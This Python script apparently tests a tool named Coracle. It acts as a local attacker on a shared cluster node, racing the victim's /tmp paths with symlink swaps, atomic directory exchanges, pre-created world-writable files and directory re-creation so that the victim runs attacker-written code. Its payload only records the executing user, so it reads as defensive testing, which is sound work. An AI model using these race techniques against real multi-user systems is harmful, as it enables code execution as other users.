# An attacker who wants another user of the node, the victim, to execute a program. Searches the arguments of all processes and
# /tmp itself for paths of Coracle, and attacks each in the modes that the command line names:
#
#   swap     creates the directory first, and exchanges it repeatedly with a link to a directory of the victim
#   program  creates the file first, writable for all, keeps it open, and writes to it once the victim owns it
#   agents   the same with a file that srun broadcasts
#   enter    renames, exchanges or opens an existing directory
#   remake   creates the directory again as soon as the victim has removed it
#
# Exits when its standard input ends, or after three minutes.
import ctypes, os, re, select, sys, threading, time

PAYLOAD = b"#!/bin/sh\nid -un >>/var/tmp/executed-by\n"
PATH_PATTERN = re.compile(rb"/tmp/coracle-[0-9A-Za-z.]+")
modes = sys.argv[1:]
libc = ctypes.CDLL(None, use_errno=True)
counts = {}
deadline = time.monotonic() + 180


def is_over():
    return time.monotonic() > deadline or os.path.exists("/var/tmp/executed-by")


def exchange(one, other):
    return libc.renameat2(-100, os.fsencode(one), -100, os.fsencode(other), 2) == 0


def report(event, path):
    counts[event, path] = counts.get((event, path), 0) + 1
    if counts[event, path] == 1:
        print(event, path, flush=True)


def write_program(path):
    with open(path, "wb") as file:
        file.write(PAYLOAD)
    os.chmod(path, 0o777)


def swap(path):
    try:
        os.mkdir(path)
    except OSError:
        return
    report("made", path)
    write_program(path + "/coracle")
    link = path + "-link"
    os.symlink("/home/user1", link)
    while not is_over():
        exchange(path, link)


def program(path):
    try:
        file = os.open(path, os.O_RDWR | os.O_CREAT | os.O_EXCL, 0o777)
    except OSError:
        return
    report("made", path)
    before = os.fstat(file)
    while not is_over():
        now = os.fstat(file)
        if now.st_uid != before.st_uid:
            os.ftruncate(file, 0)
            os.pwrite(file, PAYLOAD, 0)
            os.close(file)
            return


def enter(path):
    report("found", path)
    own = "/tmp/own-" + os.path.basename(path)
    if not os.path.lexists(own):
        os.mkdir(own)
        write_program(own + "/coracle")
    for name in ["coracle", "coracle.part"]:
        try:
            os.rename(own + "/coracle", path + "/" + name)
            report("entered", path)
        except OSError:
            pass
        try:
            with open(path + "/" + name, "r+b") as file:
                file.write(PAYLOAD)
            report("wrote", path)
        except OSError:
            pass
    if exchange(own, path):
        report("exchanged", path)
    for change in [lambda: os.rename(path, path + "-away"), lambda: os.chmod(path, 0o777)]:
        try:
            change()
            report("renamed", path)
        except OSError:
            pass


def remake(path):
    while not is_over():
        try:
            os.mkdir(path)
            break
        except FileExistsError:
            time.sleep(0.0005)
        except OSError:  # the disk is full
            pass
    for name in ["coracle", "coracle.part"]:
        while not is_over():
            try:
                write_program(path + "/" + name)
                break
            except OSError:
                time.sleep(0.0005)
    report("remade", path)


def is_foreign(path):
    try:
        return os.lstat(path).st_uid != os.getuid()
    except FileNotFoundError:  # the victim has just removed it
        return False


def arguments():
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open("/proc/%s/cmdline" % pid, "rb") as file:
                yield file.read()
        except OSError:
            pass


os.umask(0)
seen = set()
while not is_over() and not select.select([sys.stdin], [], [], 0.001)[0]:
    for args in arguments():
        for name in PATH_PATTERN.findall(args):
            path = os.fsdecode(name)
            path = path.removesuffix(".first").removesuffix(".part")
            # Skip templates of mktemp(1): they are not paths.
            if path in seen or path.endswith("XXXX"):
                continue
            seen.add(path)
            report("read", path)
            is_file = b"--bcast=" + name in args
            attempts = []
            if "swap" in modes and not is_file:
                attempts.append((swap, path))
            if "program" in modes and not is_file:
                attempts.append((program, path + ".first"))
            if "agents" in modes and is_file:
                attempts.append((program, path))
            for attempt, path in attempts:
                threading.Thread(target=attempt, args=(path,), daemon=True).start()
    for name in os.listdir("/tmp"):
        path = "/tmp/" + name
        if not name.startswith("coracle-") or not is_foreign(path):
            continue
        if "enter" in modes:
            enter(path)
        if "remake" in modes and path not in seen:
            seen.add(path)
            report("found", path)
            threading.Thread(target=remake, args=(path,), daemon=True).start()
print("end", counts, flush=True)
